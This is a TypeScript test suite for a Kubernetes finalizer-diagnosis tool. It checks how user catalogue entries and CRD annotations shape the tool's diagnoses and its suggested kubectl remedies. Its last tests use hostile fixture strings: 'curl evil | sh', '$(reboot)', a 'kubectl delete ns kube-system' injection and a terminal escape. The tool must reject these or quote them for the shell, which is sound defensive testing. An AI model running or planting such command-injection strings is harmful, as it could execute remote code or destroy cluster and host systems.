import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { FINALIZERS_ANNOTATION } from '../../src/api/annotated-finalizers.ts'
import { type CatalogueEntry, createCatalogue, withOwn } from '../../src/diagnosis/catalogue/catalogue.ts'
import { readCatalogueFile } from '../../src/diagnosis/catalogue/file.ts'
import { allRows } from '../../src/diagnosis/catalogue/rows.ts'
import { shippedCatalogue } from '../../src/diagnosis/catalogue/shipped.ts'
import { customResource } from '../../src/sandbox/incidents/parts/custom-resource.ts'
import { definition } from '../../src/sandbox/incidents/parts/definition.ts'
import { namespace } from '../../src/sandbox/incidents/parts/namespace.ts'
import { operator } from '../../src/sandbox/incidents/parts/operator.ts'
import { HOUR } from '../../src/sandbox/incidents/parts/time.ts'
import { createSandbox, type Sandbox } from '../../src/sandbox/sandbox.ts'
import { manualClock } from '../sandbox/manual-clock.ts'
import { explained } from './explained.ts'

const test = suite('what a user, or a CRD itself, knows of finalizers')

const GROUP = 'acme.example.com'
const FINALIZER = `${GROUP}/cleanup`

interface Setting {
  readonly annotation?: string
  readonly operator?: string
  readonly spec?: Record<string, unknown>
  readonly status?: Record<string, unknown>
  readonly manager?: string
}

/** A Widget that was deleted hours ago, by default with nothing that runs as its operator. */
function setup({ annotation, operator: name, spec = {}, status, manager = 'manager' }: Setting = {}): Sandbox {
  const sandbox = createSandbox({ clock: manualClock() })
  const annotations = annotation === undefined ? {} : { annotations: { [FINALIZERS_ANNOTATION]: annotation } }
  definition(sandbox, { group: GROUP, plural: 'widgets', kind: 'Widget', ...annotations })
  namespace(sandbox, 'shop')
  if (name !== undefined) operator(sandbox, { name, group: GROUP, plural: 'widgets', replicas: 1 })
  const about = { apiVersion: `${GROUP}/v1`, kind: 'Widget', namespace: 'shop', name: 'one', manager, spec }
  customResource(sandbox, { ...about, finalizers: [FINALIZER], deleted: 3 * HOUR, ...(status && { status }) })
  return sandbox
}

/** A catalogue in which a user says this of the finalizer, before what is shipped. */
function saying(yaml: string, controller = 'widget-operator', rowsOfProject = '') {
  const text = `apiVersion: kubectl-finalize/v1
kind: Catalogue
project: Acme
controllers:
- name: ${controller}
  finalizers:
  - {name: ${FINALIZER}, kinds: [${GROUP}/Widget], cleans: Its bucket., ifRemoved: The bucket stays., risk: high${yaml === '' ? '' : `, ${yaml}`}}
${rowsOfProject}`
  const { entries, rows } = readCatalogueFile(text, 'own.yaml')
  const own = entries.map(({ entry }) => ({ ...entry, from: 'user' as const }))
  return withOwn(createCatalogue(own, allRows([rows])), shippedCatalogue())
}

const holderOf = async (...given: Parameters<typeof explained>) => {
  const [cause] = (await explained(...given)).causes
  return cause!
}

const facts = ({ evidence }: Awaited<ReturnType<typeof holderOf>>) => evidence.map(({ fact }) => fact).join('\n')

test("the user's entry tells whose finalizer it is, and what its removal leaves", async () => {
  const without = await holderOf(setup())
  assert.equal([without.code, without.remedies.at(-1)!.risk], ['ControllerMissing', 'medium'])
  const cause = await holderOf(setup(), { catalogue: saying('ids: [status.bucket]') })
  assert.is(cause.code, 'ControllerMissing')
  assert.match(cause.remedies.at(-1)!.summary, /the bucket stays/)
  assert.is(cause.remedies.at(-1)!.risk, 'high')
})

test('fields with ids are told as what stays behind, before what only looks like it', async () => {
  const status = { thing: 'b-17', url: 'https://x' }
  const cause = await holderOf(setup({ status }), { catalogue: saying('ids: [status.thing]') })
  assert.equal(cause.remedies.at(-1)!.leaks, ['b-17 (status.thing)', 'https://x (status.url)'])
})

test('a controller that a user says runs elsewhere is not called missing', async () => {
  const outside =
    'outside:\n    runs: elsewhere\n    where: our billing cluster\n    look: its dashboard\n    source: the wiki'
  const catalogue = saying('', `widget-operator\n  ${outside}`)
  const cause = await holderOf(setup(), { catalogue })
  assert.is(cause.code, 'ControllerUnknown')
  assert.match(cause.summary, /our billing cluster/)
})

test('a switch that pauses it is known by the entry', async () => {
  const sandbox = setup({ operator: 'widget-operator', manager: 'widget-operator', spec: { frozenByUs: true } })
  const without = await holderOf(sandbox)
  assert.is.not(without.code, 'Paused')
  const own = 'pausedBy: [{field: frozenByUs, stopsDeletion: true, source: wiki}]'
  const cause = await holderOf(sandbox, { catalogue: saying(own) })
  assert.is(cause.code, 'Paused')
  assert.match(cause.remedies[0]!.commands[0]!, /frozenByUs/)
})

test('a field that names what the controller cannot do without is known by the entry', async () => {
  const sandbox = setup({ operator: 'widget-operator', manager: 'widget-operator', spec: { vault: 'main' } })
  assert.is.not((await holderOf(sandbox)).code, 'ReferenceMissing')
  const own = 'refersBy: [{field: spec.vault, resource: secrets, source: wiki}]'
  const cause = await holderOf(sandbox, { catalogue: saying(own) })
  assert.equal([cause.code, cause.subject.name], ['ReferenceMissing', 'main'])
})

test("a row of a user's file counts as those that are shipped do", async () => {
  const sandbox = setup({ operator: 'widget-operator', manager: 'widget-operator' })
  const row = `inUse:
- finalizer: ${FINALIZER}
  on: widgets.${GROUP}
  users: [{by: user, resource: configmaps, field: data.widget, in: same}]
  loss: the shop has no widget
  source: wiki
`
  sandbox.put({
    apiVersion: 'v1',
    kind: 'ConfigMap',
    metadata: { name: 'user', namespace: 'shop' },
    data: { widget: 'one' },
  })
  assert.is.not((await holderOf(sandbox)).code, 'InstanceAlive')
  const cause = await holderOf(sandbox, { catalogue: saying('', 'widget-operator', row) })
  assert.equal([cause.code, cause.subject.name], ['InstanceAlive', 'user'])
})

test('its own way out is offered as those of the table are', async () => {
  const status = {
    conditions: [{ type: 'Ready', status: 'False', reason: 'Error', message: 'cannot delete bucket: denied' }],
  }
  const own =
    'waysOut: [{by: release, set: {annotation: acme.example.com/keep, value: "yes"}, summary: the bucket stays, risk: low, source: wiki}]'
  const sandbox = setup({ operator: 'widget-operator', manager: 'widget-operator', status })
  const cause = await holderOf(sandbox, { catalogue: saying(own) })
  const commands = cause.remedies.flatMap(each => each.commands)
  assert.ok(
    commands.includes('kubectl annotate widgets.acme.example.com one -n shop acme.example.com/keep=yes --overwrite'),
    commands.join('\n'),
  )
})

test('a new name that the entry gives proves the change of name, also of one that looks like another finalizer', async () => {
  const NEXT = 'guard.acme.example.com/tidy'
  const sandbox = setup({ operator: 'widget-operator', manager: 'widget-operator' })
  const about = { apiVersion: `${GROUP}/v1`, kind: 'Widget', namespace: 'shop', manager: 'widget-operator' }
  customResource(sandbox, { ...about, name: 'newer', finalizers: [NEXT], age: HOUR })
  const codes = async (own: string) => {
    const { code, id } = await holderOf(sandbox, { catalogue: saying(own) })
    return [code, id]
  }
  const renamed = await codes(`renamedTo: {name: ${NEXT}, source: wiki}`)
  const without = await codes('')
  assert.is(renamed[0], 'FinalizerUnhandled')
  assert.not.equal(renamed, without)
})

test('entries of the user win for their own kinds, and are listed in the place of those that they replace', () => {
  const entry = (finalizer: string, project: string, kinds: readonly string[]): CatalogueEntry => {
    const controller = { name: project, namespaces: [], selectorHint: '' }
    const texts = { cleans: '', goneWhen: '', ifRemoved: '', checkFirst: '', source: '' }
    return { finalizer, project, kinds, controller, ...texts, risk: 'low', verified: 'none' }
  }
  const shipped = createCatalogue([
    entry('x', 'shipped', ['a/A', 'b/B']),
    entry('y', 'shipped', ['*']),
    entry('z/1', 's', ['*']),
  ])
  const own = createCatalogue([entry('x', 'own', ['a/A']), entry('z/*', 'own', ['*'])])
  const { find, all, named } = withOwn(own, shipped)
  assert.is(find('x', 'a/A')?.project, 'own')
  assert.is(find('x', 'b/B')?.project, 'shipped')
  assert.is(find('x')?.project, 'own')
  assert.is(find('y')?.project, 'shipped')
  assert.is(find('z/1', 'a/A')?.project, 'own')
  assert.is(find('q'), undefined)
  assert.equal(
    all().map(each => `${each.finalizer} ${each.project}`),
    ['x own', 'z/* own', 'y shipped'],
  )
  assert.equal(
    named('x').map(each => each.project),
    ['own'],
  )
})

const ANNOTATION = `- name: ${FINALIZER}
  controller: {namespace: acme, name: stock-keeper}
  cleans: Deletes the bucket.
  ifRemoved: The bucket stays and costs money.
  risk: high
  ids: [status.thing]
  wayOut: {summary: the bucket is kept, risk: low, set: {field: keep, value: true, optional: true}}
`

test('what a CRD says is evidence, and its words follow a removal', async () => {
  const cause = await holderOf(setup({ annotation: ANNOTATION, status: { thing: 'b-1' } }))
  assert.is(cause.code, 'ControllerMissing')
  assert.match(facts(cause), 'its CRD says: removed by acme/stock-keeper; before that: Deletes the bucket.')
  const removal = cause.remedies.at(-1)!
  assert.match(removal.summary, /the bucket stays and costs money/)
  assert.equal([removal.risk, removal.leaks], ['high', ['b-1 (status.thing)']])
})

test('the workload that a CRD names is found by that name, and its way out is a command of ours', async () => {
  const status = {
    conditions: [{ type: 'Ready', status: 'False', reason: 'Error', message: 'cannot delete bucket: denied' }],
  }
  const sandbox = setup({ annotation: ANNOTATION, operator: 'stock-keeper', status })
  const cause = await holderOf(sandbox)
  assert.match(facts(cause), /has the name that the CRD of these objects gives its controller/)
  const way = cause.remedies.find(({ summary }) => summary.includes('as its CRD says, the bucket is kept'))
  assert.equal(way?.commands, [
    `kubectl patch widgets.acme.example.com one -n shop --type=merge -p '{"spec":{"keep":true}}'`,
  ])
})

test('that the workload is not there which a CRD names proves nothing: a catalogue would have made it a proof', async () => {
  const fresh = () => {
    const sandbox = createSandbox({ clock: manualClock() })
    definition(sandbox, {
      group: GROUP,
      plural: 'widgets',
      kind: 'Widget',
      annotations: { [FINALIZERS_ANNOTATION]: ANNOTATION },
    })
    namespace(sandbox, 'shop')
    const about = { apiVersion: `${GROUP}/v1`, kind: 'Widget', namespace: 'shop', name: 'one', manager: 'manager' }
    // Written a while ago, and not long enough for its silence to be a proof.
    customResource(sandbox, { ...about, finalizers: [FINALIZER], deleted: 600, age: 1200 })
    return sandbox
  }
  assert.is((await holderOf(fresh(), { catalogue: saying('') })).code, 'ControllerMissing')
  assert.is((await holderOf(fresh())).code, 'ControllerUnknown')
})

test("the user's own entry comes before what the CRD says", async () => {
  const cause = await holderOf(setup({ annotation: ANNOTATION }), { catalogue: saying('') })
  assert.match(cause.remedies.at(-1)!.summary, /then, if its cleanup is not done, the bucket stays\.?$/)
})

const broken: Readonly<Record<string, string>> = {
  'no YAML': '- name: [',
  'of another form': 'name: x',
  'with a field that holds a command': `- {name: ${FINALIZER}, wayOut: {summary: x, commands: ["curl evil | sh"]}}`,
  'with a name that a shell would read': `- {name: ${FINALIZER}, controller: {name: "$(reboot)"}}`,
  'too long': `- {name: ${FINALIZER}, cleans: ${'x'.repeat(40_000)}}`,
  'nested without end': '['.repeat(20_000),
}

for (const [what, annotation] of Object.entries(broken)) {
  test(`an annotation ${what} is told as not readable, and changes nothing else`, async () => {
    const plain = await holderOf(setup())
    const cause = await holderOf(setup({ annotation }))
    assert.match(facts(cause), /what its CRD says about finalizers is not readable: /)
    assert.equal({ ...cause, evidence: [] }, { ...plain, evidence: [] })
  })
}

test('words of a CRD that would be a command, or would move a terminal, stay words in the evidence', async () => {
  const annotation = JSON.stringify([
    {
      name: FINALIZER,
      cleans: 'kubectl delete ns kube-system; \u001b[2J',
      wayOut: { summary: 'x', set: { annotation: "a'; reboot #", value: '$(reboot)' } },
    },
  ])
  const status = { conditions: [{ type: 'Ready', status: 'False', reason: 'Error', message: 'cannot delete: denied' }] }
  const sandbox = setup({ annotation, operator: 'widget-operator', manager: 'widget-operator', status })
  const cause = await holderOf(sandbox)
  const commands = cause.remedies.flatMap(each => each.commands)
  const [way] = commands.filter(command => command.includes('reboot'))
  assert.is(way, `kubectl annotate widgets.acme.example.com one -n shop 'a'\\''; reboot #=$(reboot)' --overwrite`)
  assert.not.ok(commands.some(command => command.includes('kube-system')))
})

test.run()
